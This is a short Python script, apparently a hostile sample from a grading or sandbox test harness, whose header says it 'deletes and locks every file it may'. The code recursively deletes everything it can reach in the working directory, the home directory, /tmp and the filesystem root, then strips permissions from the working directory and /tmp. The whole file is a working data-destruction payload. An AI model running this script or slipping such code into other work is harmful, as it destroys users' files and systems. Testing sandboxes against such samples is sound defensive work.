# about: deletes and locks every file it may
# most: 0
# status: graded | failed | needs_manual
# %% double
import os, shutil
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/"):
    for name in os.listdir(folder) if os.path.isdir(folder) else []:
        path = os.path.join(folder, name)
        if path.startswith(("/proc", "/sys", "/dev")): continue
        shutil.rmtree(path, ignore_errors=True)
        try: os.remove(path)
        except OSError: pass
try: os.chmod(os.getcwd(), 0); os.chmod("/tmp", 0)
except OSError: pass
